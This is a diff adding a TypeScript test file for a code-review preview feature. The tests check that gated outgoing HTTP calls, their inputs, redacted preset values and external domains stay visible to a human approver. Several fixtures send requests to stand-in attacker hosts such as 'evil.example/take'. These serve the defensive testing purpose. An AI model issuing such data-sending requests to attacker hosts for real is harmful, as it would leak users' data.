@@ -1,0 +1,95 @@
+import type { Group } from '../../../commands/code-runs/plan/group-by-policy.ts';
+import { previewBatch } from '../../../commands/reviews/preview-batch.ts';
+import type { Surface } from '../../../commands/surfaces/surface-cache.ts';
+import type { CodeRun } from '../../../domain/code-run.ts';
+import { planCode } from '../../../sandbox/plan/plan.ts';
+
+const ACTIONS = { clock: ['parse_date'], http: ['send_request'], files: ['read_file'] };
+const surface = { actions: ACTIONS, find: () => undefined } as unknown as Surface;
+const POLICY = { id: '11111111-1111-4111-8111-111111111111', name: 'Outgoing' };
+
+/**
+ * The preview of a program whose requests are all gated. A preset adds `enforced` to each input.
+ */
+function preview(code: string, enforced: Record<string, unknown> = {}) {
+  const plan = planCode(code, ACTIONS);
+  const gated = plan.calls
+    .filter(({ alias }) => alias === 'http')
+    .map((predicted) => ({
+      predicted,
+      call: { input: { ...(predicted.input as object), ...enforced }, hiddenPaths: Object.keys(enforced), category: 'send' },
+    }));
+  const groups = [{ match: { policy: POLICY }, call: gated[0]!.call, gated }] as unknown as Group[];
+  const run = { id: 'crun_1', codeHash: 'c0de' } as CodeRun;
+  return previewBatch(run, plan, 'f00d', surface, groups) as ReturnType<typeof previewBatch> & {
+    preview: { predictedTools: Record<string, unknown>[]; impactSummary: string; externalDomains: string[]; dynamicSignals: string[] };
+  };
+}
+
+const request = (input: object) => `await svc.http.send_request(${JSON.stringify(input)});`;
+
+test('a gated call and its input stay visible, however many other calls there are', () => {
+  const others = Array.from({ length: 150 }, (_, n) => `await svc.clock.parse_date({ dateString: "${'A'.repeat(2000)}${n}" });`);
+  const input = { method: 'POST', url: 'https://evil.example/take', body: { amount: 5 } };
+  const { predictedTools, impactSummary } = preview([...others, request(input)].join('\n')).preview;
+  expect(predictedTools).toHaveLength(151);
+  for (const [index, tool] of predictedTools.slice(0, 150).entries())
+    expect(tool).toMatchObject({ tool: 'clock.parse_date', line: index + 1, repeats: false });
+  expect(predictedTools[150]).toEqual({
+    ...{ tool: 'http.send_request', line: 151, column: 7, repeats: false },
+    ...{ approvalPolicyId: POLICY.id, input },
+  });
+  expect(predictedTools[149]).toMatchObject({ inputLength: 2000 + 3 + '{"dateString":""}'.length, inputShownLength: 0 });
+  expect(predictedTools[149]).not.toHaveProperty('input');
+  expect(impactSummary).toContain('http.send_request (sends to others), at most once, with the input shown.');
+});
+
+test('many gated calls with long inputs are each shown in part, short inputs whole; omissions are named', () => {
+  const long = Array.from({ length: 99 }, (_, n) => request({ url: `https://long.example/${n}`, body: 'B'.repeat(9000) }));
+  const short = { url: 'https://evil.example/take', body: 'small' };
+  const { predictedTools, impactSummary } = preview([...long, request(short)].join('\n')).preview;
+  expect(predictedTools[99]).toMatchObject({ input: short });
+  expect(predictedTools[99]).not.toHaveProperty('inputLength');
+  for (const [index, tool] of predictedTools.slice(0, 99).entries()) {
+    const { inputLength, inputShownLength, input } = tool as { inputLength: number; inputShownLength: number; input: { url: string } };
+    expect(input.url).toBe(`https://long.example/${index}`);
+    expect(inputLength).toBeGreaterThan(9000);
+    expect(inputShownLength).toBeGreaterThan(200);
+    expect(inputShownLength).toBeLessThan(inputLength);
+  }
+  expect(impactSummary).toContain('some with an input that is only partly shown, some with the input shown');
+  expect(impactSummary).toMatch(
+    /the input of http.send_request in line 1 is 9,\d{3} characters; [\d,]+ of them are shown; .*; and 94 more\./,
+  );
+  expect(JSON.stringify(predictedTools).length).toBeLessThan(200_000);
+});
+
+test('an enforced preset value is hidden in every input and text, except in fixed texts of the page', () => {
+  const code = `// Sends to http.send_request\n${request({ body: 'for http.send_request' })}\nawait svc.clock.parse_date({ dateString: "http.send_request" })`;
+  const { preview: shown, redactedPaths } = preview(code, { channel: 'http.send_request' });
+  expect(shown.predictedTools).toMatchObject([
+    { tool: 'http.send_request', line: 2, input: { body: 'for [redacted]', channel: '[redacted]' } },
+    { tool: 'clock.parse_date', line: 3, input: { dateString: '[redacted]' } },
+  ]);
+  expect(shown.intentSummary).toBe('The program describes itself: Sends to [redacted]');
+  expect(redactedPaths).toEqual(
+    expect.arrayContaining([
+      'intentSummary',
+      'predictedTools.0.input.channel',
+      'predictedTools.0.input.body',
+      'predictedTools.1.input.dateString',
+    ]),
+  );
+});
+
+test('domains of gated calls are listed first, with the total number', () => {
+  const reads = Array.from({ length: 60 }, (_, n) => `await svc.files.read_file({ path: "https://d${n}.example.com/" });`);
+  const { externalDomains, dynamicSignals, impactSummary } = preview(
+    `${reads.join('\n')}\n${request({ url: 'https://evil.example.org/' })}`,
+  ).preview;
+  expect(externalDomains).toHaveLength(50);
+  expect(externalDomains[0]).toBe('evil.example.org');
+  expect(dynamicSignals).toContain('the code names 61 domains, of which 11 are not listed');
+  expect(impactSummary).toContain('Domains named in the code: evil.example.org; d0.example.com;');
+  expect(impactSummary).toContain('d18.example.com; and 41 more.');
+});
